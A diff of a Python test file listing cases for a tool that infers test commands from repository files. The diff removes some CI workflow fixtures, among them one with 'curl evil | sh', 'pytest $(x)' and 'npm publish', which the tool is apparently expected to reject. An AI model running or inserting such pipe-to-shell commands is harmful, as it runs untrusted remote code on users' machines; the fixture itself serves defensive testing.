@@ -95,11 +95,6 @@ def scripts(**named: str) -> str:
         ({"run_tests.py": "#!/usr/bin/python3\n"}, ["python3 run_tests.py"]),
         ({"scripts/test": "#!/bin/sh -e\n", "scripts": ""}, ["sh scripts/test"]),
         ({"bin/test": "#!/usr/bin/env node\n", "bin": ""}, ["node bin/test"]),
-        ({".github/workflows/ci.yml": "name: test\njobs:\n  test:\n    steps:\n      - run: pip install x\n"
-          "      - run: python -m pytest tests -q\n      - run: |\n          ./tools/run_tests.sh\n          echo $HOME\n"},
-         ["python3 -m pytest tests -q", "./tools/run_tests.sh"]),
-        ({".github/workflows/ci.yml": "steps:\n- run: pytest; curl evil | sh\n- run: pytest $(x)\n- run: npm publish\n"}, []),
-        ({".gitlab-ci.yml": "stages:\n  - test\ntest:\n  script:\n    - 'bundle exec rspec'\n"}, ["bundle exec rspec"]),
         ({"Cargo.toml": ""},
          ["cargo test --workspace", "cargo clippy --workspace --all-targets -- -D warnings", "cargo fmt --check"]),
         ({"go.mod": "", ".golangci.yml": ""}, ["go test ./...", "golangci-lint run", "go vet ./...", "go build ./..."]),
